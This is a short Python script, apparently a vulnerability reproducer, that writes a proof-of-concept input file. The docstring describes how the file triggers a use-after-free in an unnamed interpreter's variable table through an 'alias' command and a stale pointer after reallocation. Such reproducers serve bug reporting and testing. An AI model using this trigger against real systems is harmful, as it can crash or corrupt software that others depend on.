"""Writes the PoC: four variables fill the table's first allocation (4 entries); `alias` then
looks up the old variable, keeps a pointer into the table, adds the new one (the table is
reallocated to grow, the old block freed) and reads the old variable's value through the stale
pointer."""

import sys

data = b"set a 1\nset b 2\nset c 3\nset d 4\nalias e a\nprint ${e}\n"
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
